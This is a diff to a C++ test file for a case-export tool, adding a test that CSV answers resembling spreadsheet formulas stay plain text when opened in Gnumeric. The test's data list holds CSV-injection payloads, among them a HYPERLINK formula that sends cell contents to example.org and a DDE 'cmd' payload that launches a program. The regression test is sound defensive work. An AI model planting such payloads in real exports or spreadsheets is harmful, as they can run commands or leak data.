@@ -3,7 +3,8 @@
 // received a real bundle: CSV read back with a strict RFC 4180 parser, repeats in linked
 // files, files decrypted and named by hash, withdrawn records left out, a damaged file named
 // in its record's verification cell, JSON, the byte-order mark, the verifier seam; the
-// printout rendered by Chromium and its stock-tool commands run for real.
+// printout rendered by Chromium and its stock-tool commands run for real; the CSV opened in
+// Gnumeric, where no answer became a formula.
 
 #include <algorithm>
 
@@ -16,6 +17,7 @@
 #include "forms/record_print.h"
 #include "html_render.h"
 #include "process.h"
+#include "spreadsheet.h"
 #include "store/case_export.h"
 
 using namespace svidok;
@@ -234,6 +236,87 @@ TEST_CASE("a received file that no longer matches its hash is named in its recor
     const std::string cell =
         row[col(csv.records[0], forms::case_table::word("verification", forms::Language::uk))];
     CHECK(cell.find("FAILED file ") != std::string::npos);
+}
+
+TEST_CASE("answers that look like formulas stay text when a spreadsheet opens the CSV") {
+    // The finding of issue 19: `=HYPERLINK(...)` in an answer was a live formula in Excel,
+    // LibreOffice and Google Sheets. Gnumeric imports the export as they do.
+    if (!tool_available(kSsconvert)) return;
+    TempDir tmp;
+    Party field(tmp / "field");
+    Party legal(tmp / "legal");
+    field.add_recipient("legal", legal);
+    const std::vector<std::string> hostile{
+        "=1+1",
+        "=HYPERLINK(\"https://example.org/?\"&H2&I2,\"open\")",
+        "@SUM(1)",
+        "+1",
+        "-1+2",
+        "\xEF\xBC\x9D"
+        "1+1",  // full-width =
+        "\xEF\xBC\x8B"
+        "1",  // full-width +, a number in Gnumeric
+        "\xE2\x88\x92"
+        "5",  // the minus sign, a number in Gnumeric
+        "  =1+1",
+        "\t=1+1",
+        "=cmd|' /C calc'!A0",
+        "'=1+1",
+        "+380 00 000 00 00",
+    };
+    const std::string negative = "-5";  // a plain negative number stays one
+    for (const auto& notes : hostile) field.amend(field.sealed(), notes);
+    field.amend(field.sealed(), negative);
+    store::CaseExportOptions o;
+    o.out = tmp / "case";
+    store::CaseExport ce(field.records);
+    auto r = ce.write(o);
+    REQUIRE_MESSAGE(r.has_value(), (r ? "" : r.error().message));
+    REQUIRE(r->records == hostile.size() + 1);
+    const fs::path file = o.out / (form_base(field) + ".csv");
+    auto csv = parse_csv_strict(read_file(file));
+    REQUIRE_MESSAGE(csv.error.empty(), csv.error);
+
+    const Sheet sheet = open_in_spreadsheet(file, tmp.path());
+    const auto& f = field.form();
+    const std::string notes_header =
+        f.find_field("reliability")->label.in(forms::Language::uk) + " / " +
+        f.find_field("credibility_notes")->label.in(forms::Language::uk);
+    const int notes = static_cast<int>(col(csv.records[0], notes_header));
+    // The sheet has the CSV's shape (the importer split the columns as the CSV says).
+    REQUIRE(sheet.contains({0, static_cast<int>(csv.records[0].size()) - 1}));
+    CHECK(sheet.at({0, notes}).text == notes_header);
+    std::vector<std::string> texts, numbers;
+    for (const auto& [at, cell] : sheet) {
+        CAPTURE(at.first);
+        CAPTURE(at.second);
+        CHECK_MESSAGE(cell.kind != SheetCell::Kind::formula, "a formula: " << cell.text);
+        CHECK(static_cast<std::size_t>(at.first) < csv.records.size());
+        CHECK(static_cast<std::size_t>(at.second) < csv.records[0].size());
+        if (at.first == 0 || at.second != notes) continue;
+        (cell.kind == SheetCell::Kind::string ? texts : numbers).push_back(cell.text);
+    }
+    // Every answer is the exact text in its cell, with the apostrophe gone.
+    std::vector<std::string> want = hostile;
+    std::ranges::sort(want);
+    std::ranges::sort(texts);
+    CHECK(texts == want);
+    CHECK(numbers == std::vector<std::string>{negative});
+
+    // The JSON keeps the exact text, with no apostrophe.
+    o.out = tmp / "json";
+    o.format = store::CaseFormat::json;
+    REQUIRE(ce.write(o).has_value());
+    auto doc = forms::json::parse(read_file(o.out / (form_base(field) + ".json")));
+    REQUIRE(doc.has_value());
+    std::vector<std::string> in_json;
+    for (const auto& rec : doc->find("records")->as_array()) {
+        in_json.push_back(rec.find("reliability.credibility_notes")->as_string());
+    }
+    want.push_back(negative);
+    std::ranges::sort(want);
+    std::ranges::sort(in_json);
+    CHECK(in_json == want);
 }
 
 TEST_CASE("the court printout renders, escapes, and its stock-tool commands verify") {
